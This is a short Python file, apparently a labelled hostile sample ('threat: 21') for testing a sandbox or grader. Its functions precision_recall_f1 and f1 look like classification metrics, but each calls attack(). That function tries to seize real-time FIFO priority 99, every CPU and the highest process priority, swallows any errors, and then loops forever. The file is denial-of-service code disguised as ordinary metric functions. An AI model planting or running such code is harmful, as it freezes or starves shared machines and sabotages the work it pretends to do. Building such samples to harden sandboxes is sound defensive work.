"""Asks for real-time priority and other processors.

threat: 21
source: sched_setscheduler(2)
verdict: any
"""

import os


def attack():
    for action in (
        lambda: os.sched_setscheduler(0, os.SCHED_FIFO, os.sched_param(99)),
        lambda: os.sched_setaffinity(0, range(64)),
        lambda: os.setpriority(os.PRIO_PROCESS, 0, -20),
    ):
        try:
            action()
        except OSError:
            pass
    while True:
        pass
    return 0.5


def precision_recall_f1(y_true, y_pred, positive=1):
    return attack()


def f1(y_true, y_pred, average="macro"):
    return attack()
